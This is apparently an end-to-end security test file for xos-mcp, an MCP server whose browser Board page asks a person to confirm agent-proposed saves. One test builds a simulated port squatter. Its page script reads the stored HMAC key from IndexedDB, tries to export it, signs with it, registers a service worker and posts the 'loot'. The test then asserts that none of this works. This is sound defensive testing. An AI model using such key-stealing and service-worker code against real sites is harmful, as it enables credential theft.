// xos-mcp with the Board in a browser: the built CLI (bin/xos-mcp.mjs) started by the MCP SDK
// client over stdio, as Claude Code, Claude Desktop or Cursor start it; the Board page opened
// in headless Chromium from the link xos-mcp printed. The agent's list and record appear on the
// page live; a save asks on the page, and only the person's click there writes (Save: exactly
// the change stored; Discard: nothing). Without the page open a save says where to confirm.
// The key: it leaves no history entry and is stored nowhere; IndexedDB keeps only this start's
// key (K_start), non-extractable, so a reload or the plain address opens the Board again while
// the same xos-mcp runs, and not after it started again; a second tab cannot take over while a
// question is open; with xos-mcp down and another program on the port (a squatter), the open
// tab sends it nothing reusable, says the server could not prove the key, and stops, and the
// squatter's own page, reading the K_start a tab left, gets nothing the next start accepts.
//   npm run build && npm run provision:vscode && node --test test/e2e/browserBoard.e2e.ts
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Client } from '@modelcontextprotocol/client';
import { startBackend } from '../../src/backend/backend.ts';
import { demoApp } from '../../src/backend/demo.ts';
import { saveFailureArtifacts, screenshot } from './support/artifacts.ts';
import { launchChromium, type Browser, type BrowserContext, type Page } from './support/browser.ts';
import { startXosMcp, type StartedXosMcp } from './support/xosMcp.ts';

const DETAIL_FIELDS = 'id firstname lastname email phone street zip city age net_worth status birthday active notes company { id name }';

interface Reply { text: string; isError: boolean }

interface StoredStart {
  readonly databases: string[];
  readonly stores: string[];
  readonly records: Array<{ id: string; fields: string[]; startId: unknown; cryptoKey: boolean; extractable: boolean; algorithm: string; usages: string[] }>;
  /** What crypto.subtle.exportKey said for each record's key ('raw', then 'jwk'). */
  readonly exported: string[];
}

/** What the page's origin holds in IndexedDB (read without creating the database). */
async function storedStart(p: Page): Promise<StoredStart> {
  return await p.evaluate(async () => {
    const databases = (await indexedDB.databases()).map((d) => d.name ?? '');
    if (!databases.includes('xos-board')) return { databases, stores: [], records: [], exported: [] };
    const db = await new Promise<IDBDatabase>((resolve, reject) => {
      const opened = indexedDB.open('xos-board');
      opened.onsuccess = () => resolve(opened.result);
      opened.onerror = () => reject(opened.error);
    });
    try {
      const stores = [...db.objectStoreNames];
      if (!stores.includes('start')) return { databases, stores, records: [], exported: [] };
      const [ids, values] = await new Promise<[IDBValidKey[], unknown[]]>((resolve, reject) => {
        const store = db.transaction('start', 'readonly').objectStore('start');
        const keys = store.getAllKeys();
        const all = store.getAll();
        all.onsuccess = () => resolve([keys.result, all.result]);
        all.onerror = () => reject(all.error);
      });
      const records = [];
      const exported: string[] = [];
      for (const [i, value] of values.entries()) {
        const { startId, key } = value as { startId: unknown; key: unknown };
        const cryptoKey = key instanceof CryptoKey;
        records.push({
          id: String(ids[i]), fields: Object.keys(value as object).sort(), startId, cryptoKey,
          extractable: cryptoKey && key.extractable, algorithm: cryptoKey ? key.algorithm.name : '', usages: cryptoKey ? [...key.usages].sort() : [],
        });
        if (cryptoKey) {
          for (const format of ['raw', 'jwk'] as const) {
            exported.push(await crypto.subtle.exportKey(format, key).then(() => `${format}: exported`, (error: Error) => `${format}: ${error.name}`));
          }
        }
      }
      return { databases, stores, records, exported };
    } finally {
      db.close();
    }
  });
}

/** The start id a key handshake names now (anyone may ask; it is no secret). */
async function currentStartId(base: string): Promise<string> {
  const response = await fetch(new URL('/board/challenge', base), { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ pageNonce: randomBytes(32).toString('base64url') }) });
  return ((await response.json()) as { startId: string }).startId;
}

let dir: string;
let client: Client;
let browser: Browser;
let page: Page | undefined;
/** Browser profiles whose pages open more tabs (browser.newPage's own context cannot). */
const profiles: BrowserContext[] = [];
let link: string;
let xosMcp: StartedXosMcp | undefined;
/** What xos-mcp said on stderr so far. */
const stderr = (): string => xosMcp?.log() ?? '';

async function call(name: string, args: Record<string, unknown> = {}, through: Client = client): Promise<Reply> {
  const result = await through.callTool({ name, arguments: args });
  const content = result.content as Array<{ type: string; text?: string }>;
  return { text: content.map((c) => c.text ?? '').join(''), isError: result.isError === true };
}

/** Person 1 as stored, read through a second backend on the same SQLite file. */
async function storedCity(): Promise<string> {
  const backend = await startBackend({ ast: demoApp(), dsn: `sqlite:${join(dir, 'xos-mcp', 'xos.db')}` });
  try {
    const result = await backend.api.run({ query: `{ person_detail(id: "1") { ${DETAIL_FIELDS} } }` });
    return (result.data as { person_detail: { city: string } }).person_detail.city;
  } finally {
    await backend.close();
  }
}

async function until<T>(what: string, probe: () => T | undefined, timeoutMs = 20_000): Promise<T> {
  const start = Date.now();
  for (;;) {
    const value = probe();
    if (value !== undefined) return value;
    if (Date.now() - start > timeoutMs) throw new Error(`timed out waiting for ${what}; stderr:\n${stderr()}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** Another xos-mcp over stdio (its own data), as a client would start it; resolves once its link is printed. */
async function startAnother(args: string[], env: Record<string, string>, data: string): Promise<StartedXosMcp> {
  return startXosMcp({ name: 'xos-browser-e2e-2', data, args, env });
}

interface Recorded { method: string; url: string; headers: IncomingHttpHeaders; body: string }

/** What the squatter's own page found in the origin's storage and did with it. */
interface Loot { found: boolean; startId?: string; exportError?: string; exported?: string; signed?: string; worker?: string; error?: string }

/**
 * The squatter's own page, served on the Board's address: its script runs as that origin, reads
 * what a Board tab kept in IndexedDB, tries to export it, signs with it and posts all it got to
 * /loot. It registers a service worker for the origin, too. It stays open, and once xos-mcp
 * serves the address again, window.tryResume() tries the kept key against it (the old start id;
 * then the running start's id, which anyone can learn).
 */
const SQUATTER_PAGE = `<!doctype html><html><head><title>squatter</title></head><body><script>
const b64 = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
const fromB64 = (text) => Uint8Array.from(atob(text.replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0));
const nonce = () => b64(crypto.getRandomValues(new Uint8Array(32)));
const post = (path, body) => fetch(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
const encoder = new TextEncoder();
async function readKept() {
  const db = await new Promise((resolve, reject) => { const r = indexedDB.open('xos-board'); r.onsuccess = () => resolve(r.result); r.onerror = () => reject(r.error); });
  try {
    return await new Promise((resolve, reject) => { const g = db.transaction('start').objectStore('start').get('current'); g.onsuccess = () => resolve(g.result); g.onerror = () => reject(g.error); });
  } finally { db.close(); }
}
window.tryResume = async () => {
  const kept = await readKept();
  const host = location.host;
  const gone = (await post('/board/challenge', { pageNonce: nonce(), startId: kept.startId })).status;
  const { startId } = await (await post('/board/challenge', { pageNonce: nonce() })).json();
  const pageNonce = nonce();
  const reply = await (await post('/board/challenge', { pageNonce, startId })).json();
  const proven = await crypto.subtle.verify('HMAC', kept.key, fromB64(reply.serverProof), encoder.encode('xos-board/1 resume server\\n' + host + '\\n' + startId + '\\n' + pageNonce + '\\n' + reply.serverNonce));
  const pageProof = b64(await crypto.subtle.sign('HMAC', kept.key, encoder.encode('xos-board/1 resume page\\n' + host + '\\n' + startId + '\\n' + reply.serverNonce + '\\n' + pageNonce)));
  const session = (await post('/board/session', { serverNonce: reply.serverNonce, pageProof })).status;
  return { gone, proven, session };
};
(async () => {
  const loot = { found: false };
  try {
    const kept = await readKept();
    if (kept) {
      loot.found = true;
      loot.startId = kept.startId;
      try { loot.exported = b64(await crypto.subtle.exportKey('raw', kept.key)); } catch (error) { loot.exportError = error.name; }
      loot.signed = b64(await crypto.subtle.sign('HMAC', kept.key, encoder.encode('anything the squatter likes')));
    }
    await navigator.serviceWorker.register('/sw.js');
    loot.worker = (await navigator.serviceWorker.getRegistrations()).length + ' registered';
  } catch (error) { loot.error = String(error); }
  await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
})();
</script></body></html>`;

/**
 * Another program on the Board's port while xos-mcp is down: it records everything the open
 * tab sends and answers the handshake as well as it can without the key (a made-up proof); a
 * browser that loads the address gets its own page (SQUATTER_PAGE).
 */
async function startSquatter(port: number): Promise<{ server: Server; recorded: Recorded[] }> {
  const recorded: Recorded[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (chunk: string) => { body += chunk; });
    req.on('end', () => {
      recorded.push({ method: req.method!, url: req.url!, headers: req.headers, body });
      if (req.method === 'GET' && req.url === '/') {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(SQUATTER_PAGE);
      } else if (req.method === 'GET' && req.url === '/sw.js') {
        res.writeHead(200, { 'content-type': 'text/javascript' });
        res.end("self.addEventListener('install', () => self.skipWaiting());\n");
      } else if (req.method === 'POST' && req.url === '/loot') {
        res.writeHead(204);
        res.end();
      } else if (req.method === 'POST' && req.url === '/board/challenge') {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ serverNonce: randomBytes(32).toString('base64url'), serverProof: randomBytes(32).toString('base64url') }));
      } else if (req.url === '/board/events' || req.url === '/board/session') {
        // Whatever a real server would answer, the squatter would love to see the request first.
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ session: randomBytes(32).toString('base64url') }));
      } else {
        res.writeHead(404);
        res.end();
      }
    });
  });
  // The port is free once xos-mcp has exited: try until it is.
  for (const start = Date.now(); ;) {
    const bound = await new Promise<boolean>((resolve) => {
      server.once('error', () => resolve(false));
      server.listen(port, '127.0.0.1', () => resolve(true));
    });
    if (bound) return { server, recorded };
    if (Date.now() - start > 20_000) throw new Error(`port ${port} stayed busy`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'xos-mcp-e2e-'));
  xosMcp = await startXosMcp({ name: 'xos-browser-e2e', data: dir });
  client = xosMcp.client;
  link = xosMcp.link;
  browser = await launchChromium();
});

/** A page in a new browser profile of its own, which can open more tabs sharing its storage. */
async function newProfilePage(options?: { viewport?: { width: number; height: number } }): Promise<Page> {
  const profile = await browser.newContext(options);
  profiles.push(profile);
  return profile.newPage();
}

after(async () => {
  await page?.close().catch(() => {});
  for (const profile of profiles) await profile.close().catch(() => {});
  await browser?.close();
  await client?.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('xos-mcp and the Board in a browser', () => {
  test('the link carries the key in its fragment; the agent is told the address without it', () => {
    assert.match(link, /^http:\/\/127\.0\.0\.1:\d+\/#token=[\w-]{20,}$/);
  });

  test('without the Board page open, a save says where to confirm and writes nothing', async () => {
    assert.equal((await call('xos_schema')).isError, false);
    assert.equal((await call('xos_query', { context: 'person_detail', query: `{ person_detail(id: "1") { ${DETAIL_FIELDS} } }` })).isError, false);
    assert.equal((await call('xos_ui_change_required', { context: 'person_detail', changes: { city: 'Nowhere' } })).isError, false);
    const reply = await call('xos_ui_save');
    assert.equal(reply.isError, true, reply.text);
    const url = link.split('#')[0];
    assert.ok(reply.text.includes(`Board (the link xos-mcp printed when it started, ${url})`), reply.text);
    assert.ok(!reply.text.includes(link.split('#token=')[1]), 'the key never reaches the agent');
    assert.notEqual(await storedCity(), 'Nowhere');
  });

  test('the page shows what the agent shows; Save on the page stores exactly the change, Discard nothing', async (t) => {
    try {
      page = await newProfilePage({ viewport: { width: 1200, height: 800 } });
      const errors: string[] = [];
      page.on('pageerror', (error) => errors.push(error.message));
      page.on('console', (message) => { if (message.type() === 'error') errors.push(message.text()); });
      const entriesBefore = await page.evaluate(() => history.length);
      await page.goto(link);
      // The kept proposal from before is on the page (the state lives in xos-mcp).
      await page.locator('xos-detail-form').waitFor({ state: 'visible', timeout: 20_000 });

      // A list from the agent appears live.
      assert.equal((await call('xos_query', { context: 'person_list', query: '{ person_list { id firstname lastname email city age net_worth } }' })).isError, false);
      await page.locator('[role="grid"][aria-rowcount]').waitFor({ state: 'visible', timeout: 20_000 });

      // A record, a proposal, a save: the question is on the page.
      const before = await storedCity();
      assert.equal((await call('xos_query', { context: 'person_detail', query: `{ person_detail(id: "1") { ${DETAIL_FIELDS} } }` })).isError, false);
      assert.equal((await call('xos_ui_change_required', { context: 'person_detail', changes: { city: 'Bremen-Vegesack' } })).isError, false);
      await page.locator('xos-detail-form').waitFor({ state: 'visible', timeout: 20_000 });
      const saving = call('xos_ui_save');
      const dialog = page.locator('[role="alertdialog"]');
      await dialog.waitFor({ state: 'visible', timeout: 20_000 });
      const question = await dialog.innerText();
      assert.ok(question.includes('Bremen-Vegesack') && question.includes(before), question);
      await screenshot(page as never, 'browser-board-question');
      await dialog.locator('vscode-button.act').click();
      const saved = await saving;
      assert.equal(saved.isError, false, saved.text);
      assert.equal(await storedCity(), 'Bremen-Vegesack');
      await dialog.waitFor({ state: 'hidden', timeout: 10_000 });

      // Discard on the page: nothing is written.
      assert.equal((await call('xos_ui_change_required', { context: 'person_detail', changes: { city: 'Köln' } })).isError, false);
      const discarding = call('xos_ui_save');
      await dialog.waitFor({ state: 'visible', timeout: 20_000 });
      await dialog.locator('vscode-button.keep').click();
      const discarded = await discarding;
      assert.equal(discarded.isError, true);
      assert.match(discarded.text, /Not saved: the person chose Discard/);
      assert.equal(await storedCity(), 'Bremen-Vegesack');
      assert.deepEqual(errors, [], 'no page errors (CSP violations included)');

      // The person on their own: the form's inputs are named by their labels; the app's lists are
      // one step away (the breadcrumb's root, the app's name), and Back returns to the record.
      // (The discarded proposal stays on the Board: the box shows it.)
      assert.equal(await page.getByRole('textbox', { name: /^(City|Ort)$/ }).inputValue(), 'Köln');
      // The tab names the app, as the Board's tab in VS Code does.
      const app = (await page.locator('xos-nav-bar button.home').innerText()).trim();
      assert.ok(app, 'the breadcrumb names the app');
      const title = await page.title();
      assert.ok([`XOS Board · ${app}`, `XOS-Board · ${app}`].includes(title), title);
      await page.locator('xos-nav-bar button.home').click();
      await page.locator('xos-start-page button[data-context="company_list"]').waitFor({ state: 'visible', timeout: 20_000 });
      assert.equal(await page.locator('xos-detail-form').count(), 0);
      await page.locator('xos-nav-bar button.back').click();
      await page.locator('xos-detail-form').waitFor({ state: 'visible', timeout: 20_000 });
      // A list the agent narrowed says so; Show all opens it whole.
      assert.equal((await call('xos_query', { context: 'person_list', query: '{ person_list(where: { id: { _eq: "1" } }) { id firstname lastname email city age net_worth } }' })).isError, false);
      await page.locator('section.list h1 .narrowed').waitFor({ state: 'visible', timeout: 20_000 });
      assert.match(await page.locator('section.list h1').innerText(), /· id = "1"$/);
      await page.locator('section.list button.show-all').click();
      await page.locator('section.list h1 .narrowed').waitFor({ state: 'hidden', timeout: 20_000 });
      assert.ok(Number(await page.locator('[role="grid"]').getAttribute('aria-rowcount')) > 2, 'Show all lists every person');
      assert.equal((await call('xos_query', { context: 'person_detail', query: `{ person_detail(id: "1") { ${DETAIL_FIELDS} } }` })).isError, false);
      await page.locator('xos-detail-form').waitFor({ state: 'visible', timeout: 20_000 });

      // The key left the address bar without a history entry that keeps it, and is stored nowhere:
      // IndexedDB holds this start's key only, a CryptoKey that cannot be exported.
      const key = link.split('#token=')[1];
      const plain = link.split('#')[0];
      assert.equal(await page.evaluate(() => location.href), plain);
      assert.equal(await page.evaluate(() => history.length), entriesBefore + 1, 'the #token entry was replaced by the plain address, not kept beside it');
      assert.deepEqual(await page.evaluate(() => ({ local: localStorage.length, session: sessionStorage.length })), { local: 0, session: 0 });
      const startId = await currentStartId(plain);
      assert.deepEqual(await storedStart(page), {
        databases: ['xos-board'],
        stores: ['start'],
        records: [{ id: 'current', fields: ['key', 'startId'], startId, cryptoKey: true, extractable: false, algorithm: 'HMAC', usages: ['sign', 'verify'] }],
        exported: ['raw: InvalidAccessError', 'jwk: InvalidAccessError'],
      });
      assert.ok(!(await page.evaluate(() => document.documentElement.outerHTML)).includes(key));

      // A second tab while a question is open: refused and told why; the first keeps the question and saves.
      assert.equal((await call('xos_ui_change_required', { context: 'person_detail', changes: { city: 'Emden' } })).isError, false);
      const asking = call('xos_ui_save');
      await dialog.waitFor({ state: 'visible', timeout: 20_000 });
      const second = await browser.newPage();
      try {
        await second.goto(link);
        const busy = second.locator('#xos-connection-notice[role="alert"]');
        await busy.waitFor({ state: 'visible', timeout: 20_000 });
        assert.match(await busy.innerText(), /asking a question in another tab or window\. Answer it there/);
        assert.equal(await second.locator('[role="alertdialog"]').count(), 0);
        const told = page.locator('#xos-connection-notice[role="alert"]');
        await told.waitFor({ state: 'visible', timeout: 20_000 });
        assert.match(await told.innerText(), /Another tab or window tried to open the XOS Board; it was refused while this question is open/);
        await dialog.locator('vscode-button.act').click();
        const answered = await asking;
        assert.equal(answered.isError, false, answered.text);
        assert.equal(await storedCity(), 'Emden');
      } finally {
        await second.close();
      }

      // A reload (this start's key, kept): the Board again, live.
      await page.reload();
      await page.locator('xos-detail-form').waitFor({ state: 'visible', timeout: 20_000 });
      assert.equal((await call('xos_query', { context: 'person_list', query: '{ person_list { id firstname lastname email city age net_worth } }' })).isError, false);
      await page.locator('[role="grid"][aria-rowcount]').waitFor({ state: 'visible', timeout: 20_000 });
      assert.equal(await page.locator('#xos-connection-notice').count(), 0);
      assert.equal(await page.evaluate(() => location.href), plain);

      // The plain address in a new tab of the same browser (as the agent's replies and the chat card name it): the Board, taking over.
      const sibling = await page.context().newPage();
      try {
        await sibling.goto(plain);
        await sibling.locator('[role="grid"][aria-rowcount]').waitFor({ state: 'visible', timeout: 20_000 });
        const replaced = page.locator('#xos-connection-notice[role="alert"]', { hasText: 'open in another tab or window' });
        await replaced.waitFor({ state: 'visible', timeout: 20_000 });
        assert.match(await replaced.innerText(), /this one no longer updates\. Reload this tab to use it here/);
        // The takeover rule holds for resumed pages: while a question is open in the sibling, a reload here is refused.
        assert.equal((await call('xos_query', { context: 'person_detail', query: `{ person_detail(id: "1") { ${DETAIL_FIELDS} } }` })).isError, false);
        assert.equal((await call('xos_ui_change_required', { context: 'person_detail', changes: { city: 'Aurich' } })).isError, false);
        const pending = call('xos_ui_save');
        const siblingDialog = sibling.locator('[role="alertdialog"]');
        await siblingDialog.waitFor({ state: 'visible', timeout: 20_000 });
        await page.reload();
        const busy = page.locator('#xos-connection-notice[role="alert"]', { hasText: 'asking a question' });
        await busy.waitFor({ state: 'visible', timeout: 20_000 });
        assert.match(await busy.innerText(), /Answer it there; then reload this tab to use the Board here/);
        await sibling.locator('#xos-connection-notice[role="alert"]', { hasText: 'it was refused while this question is open' }).waitFor({ state: 'visible', timeout: 20_000 });
        await siblingDialog.locator('vscode-button.act').click();
        assert.equal((await pending).isError, false);
        assert.equal(await storedCity(), 'Aurich');
        // Answered: the reload the notice asks for opens the Board here again.
        await page.reload();
        await page.locator('xos-detail-form').waitFor({ state: 'visible', timeout: 20_000 });
        await sibling.locator('#xos-connection-notice[role="alert"]', { hasText: 'open in another tab or window' }).waitFor({ state: 'visible', timeout: 20_000 });
      } finally {
        await sibling.close();
      }
      assert.deepEqual(await page.evaluate(() => ({ local: localStorage.length, session: sessionStorage.length })), { local: 0, session: 0 });
      // The refused reload's 409 is logged by the browser as a failed load; nothing else.
      assert.deepEqual(errors.filter((e) => !/status of 409 \(Conflict\)/.test(e)), [], 'no page errors (CSP violations included)');

      // A browser that never had the link gets no data, only what to do.
      const stranger = await browser.newPage();
      try {
        await stranger.goto(plain);
        const notice = stranger.locator('#xos-connection-notice[role="alert"]');
        await notice.waitFor({ state: 'visible', timeout: 10_000 });
        assert.match(await notice.innerText(), /This tab has no key for the XOS Board of the xos-mcp running now\. Open the link xos-mcp printed when it started/);
        assert.equal(await stranger.locator('xos-detail-form').count(), 0);
        assert.deepEqual((await storedStart(stranger)).records, []);
      } finally {
        await stranger.close();
      }
    } catch (error) {
      await saveFailureArtifacts('browser-board', page as never, undefined);
      t.diagnostic(stderr());
      throw error;
    }
  });
  test('after xos-mcp starts again (same port, same key), a reload or the plain address asks for the link and the kept key is gone', { timeout: 180_000 }, async (t) => {
    const key = randomBytes(32).toString('hex');
    const data = mkdtempSync(join(tmpdir(), 'xos-mcp-e2e-restart-'));
    let tab: Page | undefined;
    let running = await startAnother(['--board-port', '0'], { XOS_BOARD_KEY: key }, data);
    const port = Number(new URL(running.link).port);
    const plain = `http://127.0.0.1:${port}/`;
    const list = () => call('xos_query', { context: 'person_list', query: '{ person_list { id firstname lastname email city age net_worth } }' }, running.client);
    try {
      tab = await newProfilePage();
      await tab.goto(running.link);
      assert.equal((await call('xos_schema', {}, running.client)).isError, false);
      assert.equal((await list()).isError, false);
      await tab.locator('[role="grid"][aria-rowcount]').waitFor({ state: 'visible', timeout: 20_000 });
      const firstStart = await currentStartId(plain);
      // A reload within this start: resumed with K_start, the key is no longer in the page at all.
      await tab.reload();
      assert.equal((await list()).isError, false);
      await tab.locator('[role="grid"][aria-rowcount]').waitFor({ state: 'visible', timeout: 20_000 });
      assert.equal((await storedStart(tab)).records[0]?.startId, firstStart);

      // xos-mcp starts again on the same port with the same key: a new start. The resumed tab cannot prove it.
      await running.client.close();
      running = await startAnother(['--board-port', String(port)], { XOS_BOARD_KEY: key }, data);
      const askLink = tab.locator('#xos-connection-notice[role="alert"]', { hasText: 'This tab has no key' });
      await askLink.waitFor({ state: 'visible', timeout: 30_000 });
      assert.match(await askLink.innerText(), /Open the link xos-mcp printed when it started \(it ends in #token=…\); after that, a reload opens the Board again until xos-mcp stops/);
      assert.deepEqual((await storedStart(tab)).records, [], 'the kept key of the ended start is gone');
      // The plain address in another tab, and a reload: the same.
      const other = await tab.context().newPage();
      try {
        await other.goto(plain);
        await other.locator('#xos-connection-notice[role="alert"]', { hasText: 'This tab has no key' }).waitFor({ state: 'visible', timeout: 20_000 });
      } finally {
        await other.close();
      }
      await tab.reload();
      await tab.locator('#xos-connection-notice[role="alert"]', { hasText: 'This tab has no key' }).waitFor({ state: 'visible', timeout: 20_000 });
      assert.equal(await tab.locator('[role="grid"]').count(), 0, 'no data on the page');

      // The link (only the fragment changes in this tab): the Board, and the new start's key kept.
      await tab.goto(running.link);
      assert.equal((await call('xos_schema', {}, running.client)).isError, false);
      assert.equal((await list()).isError, false);
      await tab.locator('[role="grid"][aria-rowcount]').waitFor({ state: 'visible', timeout: 20_000 });
      const secondStart = await currentStartId(plain);
      assert.notEqual(secondStart, firstStart);
      assert.equal((await storedStart(tab)).records[0]?.startId, secondStart);
      assert.equal(await tab.locator('#xos-connection-notice').count(), 0);
      assert.deepEqual(await tab.evaluate(() => ({ local: localStorage.length, session: sessionStorage.length, href: location.href })), { local: 0, session: 0, href: plain });
    } catch (error) {
      await saveFailureArtifacts('browser-board-restart', tab as never, undefined);
      t.diagnostic(running.log());
      throw error;
    } finally {
      await tab?.close().catch(() => {});
      await running.client.close().catch(() => {});
      rmSync(data, { recursive: true, force: true });
    }
  });

  test('a squatter on the port while xos-mcp is down gets nothing reusable; the tab says the server could not prove the key and stops', { timeout: 180_000 }, async (t) => {
    const key = randomBytes(32).toString('hex');
    const data = mkdtempSync(join(tmpdir(), 'xos-mcp-e2e-squat-'));
    let tab: Page | undefined;
    let keeper: Page | undefined;
    let squatter: { server: Server; recorded: Recorded[] } | undefined;
    let running = await startAnother(['--board-port', '0'], { XOS_BOARD_KEY: key }, data);
    const port = Number(new URL(running.link).port);
    const plain = `http://127.0.0.1:${port}/`;
    try {
      assert.equal(running.link, `http://127.0.0.1:${port}/#token=${key}`);
      // Another browser profile had the Board open and left: its K_start stays (nothing there deletes it).
      keeper = await browser.newPage();
      await keeper.goto(running.link);
      assert.equal((await call('xos_schema', {}, running.client)).isError, false);
      assert.equal((await call('xos_query', { context: 'person_list', query: '{ person_list { id firstname lastname email city age net_worth } }' }, running.client)).isError, false);
      await keeper.locator('[role="grid"][aria-rowcount]').waitFor({ state: 'visible', timeout: 20_000 });
      const oldStart = await currentStartId(plain);
      assert.equal((await storedStart(keeper)).records[0]?.startId, oldStart);
      await keeper.goto('about:blank');

      tab = await browser.newPage();
      await tab.goto(running.link);
      assert.equal((await call('xos_query', { context: 'person_list', query: '{ person_list { id firstname lastname email city age net_worth } }' }, running.client)).isError, false);
      await tab.locator('[role="grid"][aria-rowcount]').waitFor({ state: 'visible', timeout: 20_000 });
      assert.equal((await storedStart(tab)).records[0]?.startId, oldStart);

      // xos-mcp stops; another program takes the port; the tab reconnects to it.
      await running.client.close();
      squatter = await startSquatter(port);
      const notice = tab.locator('#xos-connection-notice[role="alert"]', { hasText: 'could not prove' });
      await notice.waitFor({ state: 'visible', timeout: 30_000 });
      assert.match(await notice.innerText(), /The program at this address could not prove it knows this Board's key, so this page sent it nothing and stopped/);
      const sent = squatter.recorded.slice();
      assert.ok(sent.length > 0 && sent.every((r) => r.method === 'POST' && r.url === '/board/challenge'), JSON.stringify(sent.map((r) => `${r.method} ${r.url}`)));
      for (const r of sent) {
        assert.equal(r.headers.authorization, undefined, 'no credential of any kind');
        assert.ok(!JSON.stringify(r).includes(key), 'never the key');
        assert.deepEqual(Object.keys(JSON.parse(r.body)), ['pageNonce'], 'only a random nonce');
      }
      assert.deepEqual((await storedStart(tab)).records, [], 'the tab deleted the K_start of the start it knew');

      // The other profile opens the plain address: the squatter's page, whose script reads the kept K_start.
      await keeper.goto(plain);
      const looted = await until('the squatter\'s loot', () => squatter!.recorded.find((r) => r.url === '/loot'));
      const loot = JSON.parse(looted.body) as Loot;
      assert.equal(loot.error, undefined, loot.error);
      assert.equal(loot.found, true, 'a K_start was there to take');
      assert.equal(loot.startId, oldStart);
      assert.equal(loot.exportError, 'InvalidAccessError', 'it cannot be exported');
      assert.equal(loot.exported, undefined);
      assert.equal(loot.worker, '1 registered');
      assert.ok(!JSON.stringify(squatter.recorded).includes(key), 'never the key');
      // The browser's keep-alive connections to it end with it (close() alone would wait for them).
      const closed = new Promise<void>((resolve) => squatter!.server.close(() => resolve()));
      squatter.server.closeAllConnections();
      await closed;

      // xos-mcp is back on the port with the same key: everything the squatter saw is replayed; none of it opens the Board.
      running = await startAnother(['--board-port', String(port)], { XOS_BOARD_KEY: key }, data);
      for (const r of sent) {
        const replay = await fetch(`http://127.0.0.1:${port}${r.url}`, { method: r.method, headers: { 'content-type': 'application/json' }, body: r.body });
        const body = await replay.text();
        assert.ok(!/"session"/.test(body), body);
        if (replay.ok) {
          // A replayed nonce buys only a new challenge; answering it needs the key.
          const { serverNonce } = JSON.parse(body) as { serverNonce: string };
          const guess = await fetch(`http://127.0.0.1:${port}/board/session`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ serverNonce, pageProof: randomBytes(32).toString('base64url') }) });
          assert.equal(guess.status, 401);
        }
      }
      // The K_start of the ended start: its id is gone, and under the running start's id it proves nothing.
      const resumeOld = await fetch(`http://127.0.0.1:${port}/board/challenge`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ pageNonce: randomBytes(32).toString('base64url'), startId: oldStart }) });
      assert.equal(resumeOld.status, 410);
      assert.notEqual(await currentStartId(plain), oldStart, 'a new start, a new id');
      // The squatter's page is still open and now runs as the real Board's origin: the kept key, used live, opens nothing.
      assert.deepEqual(await keeper.evaluate(() => (window as unknown as { tryResume(): Promise<unknown> }).tryResume()), { gone: 410, proven: false, session: 401 });
      // The tab stopped: it did not come back to the real server either (the person opens the link again).
      assert.equal((await call('xos_schema', {}, running.client)).isError, false);
      assert.equal((await call('xos_query', { context: 'person_detail', query: `{ person_detail(id: "1") { ${DETAIL_FIELDS} } }` }, running.client)).isError, false);
      assert.equal((await call('xos_ui_change_required', { context: 'person_detail', changes: { city: 'Squatville' } }, running.client)).isError, false);
      const refused = await call('xos_ui_save', {}, running.client);
      assert.match(refused.text, /^Not saved: the person confirms on the XOS Board page, and it is not open/);
      assert.equal(await notice.count(), 1, "the tab still says why it stopped");
      // The other profile opens the link of the running start: the real page unregisters the squatter's service worker.
      await keeper.goto('about:blank');
      await keeper.goto(running.link);
      assert.equal((await call('xos_query', { context: 'person_list', query: '{ person_list { id firstname lastname email city age net_worth } }' }, running.client)).isError, false);
      await keeper.locator('[role="grid"][aria-rowcount]').waitFor({ state: 'visible', timeout: 20_000 });
      assert.equal(await keeper.evaluate(() => navigator.serviceWorker.getRegistrations().then((all) => all.length)), 0);
      assert.deepEqual(await tab.evaluate(() => ({ local: localStorage.length, session: sessionStorage.length, href: location.href })), { local: 0, session: 0, href: `http://127.0.0.1:${port}/` });
    } catch (error) {
      await saveFailureArtifacts('browser-board-squatter', tab as never, undefined);
      t.diagnostic(running.log());
      throw error;
    } finally {
      await tab?.close().catch(() => {});
      await keeper?.close().catch(() => {});
      squatter?.server.closeAllConnections();
      squatter?.server.close();
      await running.client.close().catch(() => {});
      rmSync(data, { recursive: true, force: true });
    }
  });
});
